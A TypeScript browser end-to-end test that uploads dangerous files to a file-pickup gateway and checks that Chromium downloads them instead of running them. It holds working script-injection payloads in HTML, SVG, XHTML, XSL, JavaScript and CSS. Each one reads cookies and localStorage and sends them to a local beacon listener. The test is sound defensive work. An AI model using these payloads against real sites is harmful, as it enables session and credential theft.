// DL-01 in a real browser: the dangerous files of download-safety.e2e.spec.ts, opened in Debian's
// Chromium from a page on the gateway's own origin (same-origin with the API, the place an attacker
// wants their code to run), by top-level navigation and embedded by <iframe>, <img>, <script>,
// <object>, <embed> and <link>. Every payload tries alert() and a beacon to a listener on 127.0.0.1;
// the control case serves the same files without the safety headers and shows that both are seen.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { chromium, type BrowserContext, type Download, type Page } from 'playwright-core';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../../../tools/browser/chromium.mjs';
import { bearer, postJson } from './support/accounts.js';
import { api, gatewayUrl, json, newFingerprint, uploadMultipart } from './support/e2e.js';

/** Long enough for a script that did run to reach the beacon listener. */
const SETTLE_MS = 300;
/** Text in every payload: a frame whose document holds it rendered the file. */
const MARK = 'LEXY-DL01-PAYLOAD';

interface Dangerous {
  label: string;
  name: string;
  type: string;
  body: string;
}

/**
 * A script that calls alert() and sends a beacon three ways (fetch, new Image().src,
 * navigator.sendBeacon) with what it could steal (cookies, localStorage). It avoids `&` and `<`,
 * so it is valid as is inside SVG, XHTML and XSL.
 */
function payloadScript(beacon: string, tag: string, what: string): string {
  return (
    `(function(){var u=${JSON.stringify(`${beacon}?c=${tag}:${what}`)};var s='';` +
    `try{s=document.cookie+'|'+JSON.stringify(localStorage)}catch(e){s='no-storage'}` +
    `u=u+';o='+encodeURIComponent(location.origin)+';s='+encodeURIComponent(s);` +
    `try{fetch(u+';via=fetch',{mode:'no-cors'})}catch(e){}` +
    `try{new Image().src=u+';via=image'}catch(e){}` +
    `try{navigator.sendBeacon(u+';via=sendBeacon')}catch(e){}` +
    `alert('${MARK} ${tag}:${what}')})()`
  );
}

/**
 * The dangerous files of download-safety.e2e.spec.ts, armed with payloadScript(); markup adds
 * beacons that need no script (<img>, <link>, CSS url()).
 */
function dangerousFiles(beacon: string, tag: string): Dangerous[] {
  const hit = (what: string) => `${beacon}?c=${tag}:${what}`;
  const script = (what: string) => payloadScript(beacon, tag, what);
  const html = (what: string) =>
    `<!doctype html><html><head><link rel="stylesheet" href="${hit(`${what}-link`)}"></head>` +
    `<body>${MARK}<img src="${hit(`${what}-img`)}"><script>${script(what)}</script></body></html>`;
  return [
    { label: 'an HTML page', name: 'page.html', type: 'text/html', body: html('html') },
    {
      label: 'an SVG with script',
      name: 'logo.svg',
      type: 'image/svg+xml',
      body:
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${script('svg-onload').replace(/"/g, '&quot;')}">` +
        `<text y="20">${MARK}</text><image href="${hit('svg-image')}" width="1" height="1"/>` +
        `<script>${script('svg')}</script></svg>`,
    },
    { label: 'a .png that holds HTML', name: 'photo.png', type: 'image/png', body: html('png') },
    { label: '.html', name: 'index.html', type: 'text/html; charset=utf-8', body: html('index-html') },
    {
      label: 'XHTML',
      name: 'page.xhtml',
      type: 'application/xhtml+xml',
      body:
        `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head>` +
        `<link rel="stylesheet" href="${hit('xhtml-link')}"/></head><body>${MARK}` +
        `<img src="${hit('xhtml-img')}"/><script>${script('xhtml')}</script></body></html>`,
    },
    {
      label: 'XML with XSL',
      name: 'data.xml',
      type: 'application/xml',
      // An embedded stylesheet that turns the document into an HTML page with a script.
      body:
        `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="#style"?>` +
        `<!DOCTYPE doc [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><doc>` +
        `<xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
        `<xsl:template match="/"><html><body>${MARK}<img src="${hit('xsl-img')}"/>` +
        `<script>${script('xsl')}</script></body></html></xsl:template></xsl:stylesheet></doc>`,
    },
    { label: 'JavaScript', name: 'app.js', type: 'text/javascript', body: `/* ${MARK} */${script('js')}` },
    // Legacy JavaScript types that Chromium runs too (once served as they were stored).
    ...['text/ecmascript', 'text/x-javascript', 'text/jscript'].map((type, i) => ({
      label: `JavaScript as ${type}`,
      name: `legacy-${i}.js`,
      type,
      body: `/* ${MARK} */${script(`legacy-js-${i}`)}`,
    })),
    {
      label: 'CSS',
      name: 'site.css',
      type: 'text/css',
      body:
        `/* ${MARK} */@import url("${hit('css-import')}");` +
        `body{background:url("${hit('css-background')}")}html{background:url(javascript:alert(1))}`,
    },
    {
      label: 'MHTML',
      name: 'page.mhtml',
      type: 'multipart/related',
      body: [
        'MIME-Version: 1.0',
        'Content-Type: multipart/related; type="text/html"; boundary="lexy"',
        '',
        '--lexy',
        'Content-Type: text/html',
        'Content-Location: http://127.0.0.1/page.html',
        '',
        html('mhtml'),
        '--lexy--',
        '',
      ].join('\r\n'),
    },
  ];
}

/** The listener the payloads beacon to; it also serves the control files, without any safety header. */
class BeaconServer {
  readonly hits: string[] = [];
  private readonly files = new Map<string, Dangerous>();
  private readonly server = http.createServer((request, response) => this.handle(request, response));

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
  }

  get origin(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  /** A page of this server's origin to start from. */
  get home(): string {
    return `${this.origin}/home`;
  }

  get beacon(): string {
    return `${this.origin}/beacon`;
  }

  /** Serves `file` at /control/<name> with its declared type and nothing else, as a naive server would. */
  serve(file: Dangerous): string {
    this.files.set(file.name, file);
    return `${this.origin}/control/${file.name}`;
  }

  /** Forwards to `url` (a gateway download) and drops only its X-Content-Type-Options header. */
  withoutNosniff(url: string): string {
    return `${this.origin}/without-nosniff?url=${encodeURIComponent(url)}`;
  }

  /** The hits of payloads tagged `tag`. */
  hitsOf(tag: string): string[] {
    return this.hits.filter((hit) => hit.includes(`c=${tag}:`));
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  private handle(request: http.IncomingMessage, response: http.ServerResponse): void {
    const url = new URL(request.url ?? '/', this.origin);
    if (url.pathname === '/beacon') {
      this.hits.push(decodeURIComponent(url.search));
      request.resume();
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      return;
    }
    if (url.pathname === '/without-nosniff') {
      http
        .get(url.searchParams.get('url') ?? '', (upstream) => {
          const { 'x-content-type-options': _dropped, ...headers } = upstream.headers;
          response.writeHead(upstream.statusCode ?? 502, headers);
          upstream.pipe(response);
        })
        .on('error', () => response.writeHead(502).end());
      return;
    }
    if (url.pathname === '/home') {
      response
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end('<!doctype html><title>control</title>');
      return;
    }
    const file = url.pathname.startsWith('/control/') ? this.files.get(url.pathname.slice(9)) : undefined;
    if (!file) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': file.type }).end(file.body);
  }
}

/** What the browser did while an action ran, and for a moment after. */
interface Seen {
  dialogs: string[];
  downloads: Download[];
  hits: string[];
}

describe('DL-01 in Chromium: downloads never run as code in the gateway’s origin', () => {
  const beacons = new BeaconServer();
  const dialogs: string[] = [];
  const downloads: Download[] = [];
  let profile: string;
  let context: BrowserContext;
  let page: Page;
  let files: Array<Dangerous & { code: string }>;
  let session: string;
  /** A real gateway page: the origin the files must not run in. */
  const home = () => `${gatewayUrl()}/api/v1/health`;

  beforeAll(async () => {
    if (!existsSync(CHROMIUM_PATH)) {
      throw new Error(
        `DL-01 needs Debian's Chromium at ${CHROMIUM_PATH}, which is missing: install it with ` +
          '`apt-get install -y chromium` (see the requirements in README.md). This test is never skipped.',
      );
    }
    await beacons.start();

    session = json(await postJson('/auth/anonymous', {})).accessToken as string;
    files = [];
    for (const file of dangerousFiles(beacons.beacon, 'gateway')) {
      const response = await uploadMultipart(Readable.from([Buffer.from(file.body)]), {
        filename: file.name,
        mimeType: file.type,
        headers: { 'x-device-fingerprint': newFingerprint(), ...bearer(session) },
      });
      if (response.status !== 201) throw new Error(`upload of ${file.name} answered ${response.status}`);
      files.push({ ...file, code: json(response).file.code as string });
    }

    profile = mkdtempSync(join(tmpdir(), 'lexy-dl01-chromium-'));
    context = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM_PATH,
      headless: true,
      args: CHROMIUM_ARGS,
      acceptDownloads: true,
    });
    page = context.pages()[0] ?? (await context.newPage());
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss().catch(() => undefined);
    });
    page.on('download', (download) => downloads.push(download));
    // Logged in, as a browser of the app would be: a session in a cookie and in localStorage,
    // the loot a script running in this origin would send to its beacon.
    await context.addCookies([{ name: 'lexy_session', value: session, url: gatewayUrl() }]);
    await page.goto(home());
    await page.evaluate((token) => localStorage.setItem('lexy.accessToken', token), session);
  }, 60_000);

  afterAll(async () => {
    await context?.close();
    await beacons.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  /** Runs `action` and reports the dialogs, downloads and beacon hits it caused. */
  async function observe(tag: string, action: () => Promise<unknown>): Promise<Seen> {
    const [dialogsBefore, downloadsBefore, hitsBefore] = [dialogs.length, downloads.length, beacons.hitsOf(tag).length];
    await action();
    await page.waitForTimeout(SETTLE_MS);
    return {
      dialogs: dialogs.slice(dialogsBefore),
      downloads: downloads.slice(downloadsBefore),
      hits: beacons.hitsOf(tag).slice(hitsBefore),
    };
  }

  /**
   * Top-level navigation from a page of `origin` (a download leaves the page where it was):
   * the type the browser rendered, or null if it rendered nothing.
   */
  async function navigate(origin: string, url: string): Promise<string | null> {
    const from = origin === gatewayUrl() ? home() : beacons.home;
    if (page.url() !== from) await page.goto(from);
    const response = await page.goto(url).catch(() => null);
    return response ? (response.headers()['content-type'] ?? 'no content-type') : null;
  }

  /**
   * A page of `origin` that embeds each URL every way a page can. It is written into a real page
   * of that origin: a page the browser made up itself (route.fulfill) counts as a public address,
   * and Chromium's Local Network Access then blocks its requests to the loopback beacon.
   */
  async function embed(origin: string, urls: string[], type: string): Promise<void> {
    const tags = urls.map((raw) => {
      const url = raw.replace(/&/g, '&amp;');
      return (
        `<link rel="stylesheet" href="${url}"><script src="${url}"></script>` +
        `<iframe src="${url}"></iframe><img src="${url}"><object data="${url}"></object>` +
        `<object data="${url}" type="${type.split(';')[0]}"></object><embed src="${url}">`
      );
    });
    const html = `<!doctype html><html><head><meta charset="utf-8"></head><body>${tags.join('')}</body></html>`;
    await page.goto(origin === gatewayUrl() ? home() : beacons.home);
    await page.setContent(html, { waitUntil: 'load' });
  }

  /** Documents that hold a payload's text: files the browser rendered in some frame. */
  async function framesShowingPayload(): Promise<string[]> {
    const shown: string[] = [];
    for (const frame of page.frames()) {
      if (frame === page.mainFrame()) continue;
      const content = await frame.content().catch(() => '');
      if (content.includes(MARK)) shown.push(frame.url());
    }
    return shown;
  }

  describe('control: the same files from a server without the safety headers', () => {
    it('run, and a script in a gateway page reaches the listener: the dialog hook and the beacon listener see attacks', async () => {
      // A script in a gateway page reaches the listener (and its alert() is seen).
      const probe = await observe('control', async () => {
        await page.goto(home());
        await page.setContent(`<script>${payloadScript(beacons.beacon, 'control', 'gateway-page')}</script>`);
      });
      expect(probe.dialogs).toEqual([`${MARK} control:gateway-page`]);
      expect(
        probe.hits
          .filter((hit) => hit.includes('control:gateway-page;'))
          .map((hit) => /via=(\w+)/.exec(hit)?.[1])
          .sort(),
      ).toEqual(['fetch', 'image', 'sendBeacon']);
      expect(probe.hits.some((hit) => hit.includes(session))).toBe(true);

      const control = dangerousFiles(beacons.beacon, 'control');
      const url = (name: string) => beacons.serve(control.find((file) => file.name === name) as Dangerous);
      const names = ['page.html', 'logo.svg', 'page.xhtml', 'data.xml'];
      const rendered: Array<[string, string | null]> = [];
      const navigated = await observe('control', async () => {
        for (const name of names) rendered.push([name, await navigate(beacons.origin, url(name))]);
      });
      expect(rendered).toEqual(names.map((name) => [name, expect.any(String)]));
      expect(navigated.downloads).toEqual([]);
      for (const name of ['html', 'svg', 'xhtml', 'xsl']) {
        expect(navigated.dialogs).toContain(`${MARK} control:${name}`);
        expect(navigated.hits.some((hit) => hit.includes(`control:${name};`))).toBe(true);
      }
      // Embedded: the script runs in the embedding page, the stylesheet fetches its url()s, the frame renders.
      const seen = await observe('control', () =>
        embed(beacons.origin, [url('app.js'), url('site.css'), url('page.html')], 'text/html'),
      );
      expect(seen.dialogs).toEqual(expect.arrayContaining([`${MARK} control:js`, `${MARK} control:html`]));
      expect(seen.hits.some((hit) => hit.includes('control:js;'))).toBe(true);
      expect(seen.hits.some((hit) => hit.includes('control:css-'))).toBe(true);
      expect(await framesShowingPayload()).not.toEqual([]);
    });

    it('and the gateway’s own JavaScript download, with only X-Content-Type-Options dropped, runs from a <script>', async () => {
      // The gateway serves it as application/octet-stream, which Chromium executes as a script
      // unless nosniff forbids it: this is the header the embedding tests below depend on.
      const file = dangerousFiles(beacons.beacon, 'proxied').find((candidate) => candidate.name === 'app.js');
      const uploaded = await uploadMultipart(Readable.from([Buffer.from(file?.body ?? '')]), {
        filename: 'app.js',
        mimeType: 'text/javascript',
        headers: { 'x-device-fingerprint': newFingerprint() },
      });
      const url = api(`/files/pickup/${json(uploaded).file.code as string}/download`);
      const seen = await observe('proxied', () =>
        embed(beacons.origin, [beacons.withoutNosniff(url)], 'text/javascript'),
      );
      expect(seen.dialogs).toContain(`${MARK} proxied:js`);
      expect(seen.hits.some((hit) => hit.includes('proxied:js;'))).toBe(true);
    });
  });

  describe('the files served by the gateway', () => {
    const downloadUrls = (code: string) => [
      api(`/files/pickup/${code}/download`),
      api(`/files/pickup/${code}/download?inline=1`),
    ];

    it.each(dangerousFiles('beacon', 'x').map((file) => [file.label, file.name] as const))(
      '%s (%s): navigating to its download URLs downloads it, with no dialog and no beacon',
      async (_, name) => {
        const file = files.find((candidate) => candidate.name === name) as Dangerous & { code: string };
        const urls = downloadUrls(file.code);
        const rendered: Array<[string, string | null]> = [];
        const seen = await observe('gateway', async () => {
          for (const url of urls) rendered.push([url, await navigate(gatewayUrl(), url)]);
        });
        expect(rendered).toEqual(urls.map((url) => [url, null]));
        expect({ dialogs: seen.dialogs, hits: seen.hits }).toEqual({ dialogs: [], hits: [] });
        expect(seen.downloads.map((download) => download.url())).toEqual(urls);
        for (const download of seen.downloads) {
          expect(download.suggestedFilename()).toBe(name);
          expect(readFileSync(await download.path(), 'utf8')).toBe(file.body);
        }
        // The page stayed where it was: the file never became a document of the gateway's origin.
        expect(page.url()).toBe(home());
      },
    );

    it.each(dangerousFiles('beacon', 'x').map((file) => [file.label, file.name] as const))(
      '%s (%s): embedded in a gateway-origin page by iframe, img, script, object, embed and link, nothing runs',
      async (_, name) => {
        const file = files.find((candidate) => candidate.name === name) as Dangerous & { code: string };
        const urls = downloadUrls(file.code);
        const seen = await observe('gateway', () => embed(gatewayUrl(), urls, file.type));
        expect({ dialogs: seen.dialogs, hits: seen.hits }).toEqual({ dialogs: [], hits: [] });
        expect(await framesShowingPayload()).toEqual([]);
        // A frame may start a download of the file (it is an attachment), but of nothing else.
        for (const download of seen.downloads) expect(urls).toContain(download.url());
      },
    );

    it('no payload ever reached the beacon listener, from any route, during the whole run', () => {
      expect(beacons.hitsOf('gateway')).toEqual([]);
      expect(dialogs.filter((message) => message.includes(`${MARK} gateway:`))).toEqual([]);
    });
  });
});
